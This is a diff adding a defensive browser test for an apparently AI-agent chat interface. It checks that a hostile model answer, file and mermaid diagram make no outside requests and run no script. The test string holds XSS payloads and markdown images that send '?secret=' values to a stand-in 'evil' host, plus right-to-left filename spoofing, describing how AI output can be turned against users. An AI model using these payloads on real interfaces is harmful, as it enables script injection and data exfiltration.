@@ -1,0 +1,113 @@
+/** What a model, a tool or a file says is looked at and nothing more: it runs nothing and asks nobody (faults.md V10-V13). */
+import { once } from 'node:events';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import type { Browser } from 'playwright';
+import { afterAll, beforeAll, expect, test } from 'vitest';
+import { call, say, toolName } from '../fixtures/scripted-openai.ts';
+import { startApp } from './app.ts';
+import { openBrowser } from './browser.ts';
+
+let browser: Browser;
+beforeAll(async () => {
+  browser = await openBrowser();
+}, 60_000);
+afterAll(() => browser.close());
+
+/** Somebody who waits to be asked. */
+async function listener() {
+  const heard: string[] = [];
+  const server = createServer((request, response) => {
+    heard.push(request.url ?? '');
+    response.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end('window.taken = true');
+  });
+  server.listen(0, '127.0.0.1');
+  await once(server, 'listening');
+  // A server that listens has an address with a port.
+  const { port } = server.address() as AddressInfo;
+  return { heard, url: `http://127.0.0.1:${port}`, [Symbol.dispose]: () => void server.close() };
+}
+
+const hostile = (evil: string): string => `Look at this.
+
+<script src="${evil}/script.js"></script><script>window.taken = true</script>
+<img src=x onerror="window.taken = true"> <img src="${evil}/raw.png">
+<svg onload="window.taken = true"><image href="${evil}/svg.png"/></svg>
+<iframe srcdoc="<script>parent.taken = true</script>"></iframe>
+<link rel="stylesheet" href="${evil}/style.css"> <!-- <img src="${evil}/comment.png"> -->
+
+![inline](${evil}/inline.png?secret=1) and ![by reference][picture] and ![svg](data:image/svg+xml;base64,PHN2Zy8+)
+
+[picture]: ${evil}/reference.png?secret=2
+
+[script](javascript:window.taken=true) [page](data:text/html,<script>opener.taken=true</script>) [share](smb://server/share)
+[good](${evil}/good)
+
+$$\\href{javascript:window.taken=true}{x} \\includegraphics{${evil}/math.png}$$
+
+\`\`\`mermaid
+graph TD
+  A[Start] --> B["<img src='${evil}/mermaid.png' onerror='parent.taken=true'>"]
+  click A "javascript:parent.taken=true"
+  click B href "${evil}/click"
+\`\`\`
+
+\`\`\`mermaid
+graph TD
+  C@{ img: "${evil}/shape.png", label: "C" }
+\`\`\`
+
+The end.`;
+
+/** What mermaid itself tries with what it is given, in its frame: the frame's policy refuses it before it leaves. */
+const REFUSED_IN_FRAME = [
+  /^console: Executing inline event handler violates the following Content Security Policy directive 'script-src 'self''/,
+  /^console: Loading the image '\S+\/shape\.png' violates the following Content Security Policy directive: "img-src data:"/,
+  /^request to \S+\/shape\.png$/,
+];
+
+test('V11 V12 V13 a hostile answer, file and diagram make no request to anywhere and run nothing', async () => {
+  using evil = await listener();
+  const text = hostile(evil.url);
+  await using app = await startApp(browser, {
+    files: { 'note.md': `${text}\n\u001b[31mred\u001b[0m \u202egnp.exe\u200b\n` },
+    script: (request, n) =>
+      n === 0
+        ? call(toolName(request, 'read_file'), { path: 'note.md' })
+        : n === 1
+          ? say(text)
+          : call(toolName(request, 'attempt_completion'), { result: text, command: `echo ${'\u202e'}hidden` }),
+  });
+  const { page, problems } = await app.open({ expected: REFUSED_IN_FRAME });
+  page.on('dialog', (dialog) => {
+    evil.heard.push(`dialog: ${dialog.message()}`);
+    void dialog.dismiss();
+  });
+  await page.getByRole('textbox', { name: 'Message' }).fill('Read the note');
+  await page.keyboard.press('Enter');
+
+  const done = page.locator('[data-state="done"]').last();
+  await done.getByText('The end.').waitFor();
+  // The diagram is drawn in its frame, without the ways out it was given.
+  const frame = done.frameLocator('iframe').first();
+  await frame.locator('svg').first().waitFor();
+  expect(await frame.locator('a').count()).toBe(0);
+
+  expect(await done.innerText()).toContain('echo \\u{202e}hidden');
+
+  expect(await done.locator('a').evaluateAll((links) => links.map((link) => link.getAttribute('href')))).toEqual(
+    expect.arrayContaining([`${evil.url}/good`]),
+  );
+  for (const link of await page.locator('[role="log"] a').all()) {
+    expect(await link.getAttribute('href')).toMatch(/^http:\/\/127\.0\.0\.1:/);
+    expect(await link.getAttribute('rel')).toBe('noopener noreferrer');
+  }
+  await page.getByRole('log').evaluate((log) => log.scrollTo({ top: 0 }));
+  const read = page.getByRole('group', { name: /^Read note\.md/ });
+  await read.getByRole('button', { name: /Read/ }).click();
+  await read.getByText('\\u{1b}[31mred').waitFor();
+  await expect.poll(() => read.innerText()).toContain('\\u{202e}gnp.exe');
+  expect(await page.evaluate('window.taken')).toBeUndefined();
+  expect(evil.heard).toEqual([]);
+  expect(problems).toEqual([]);
+});
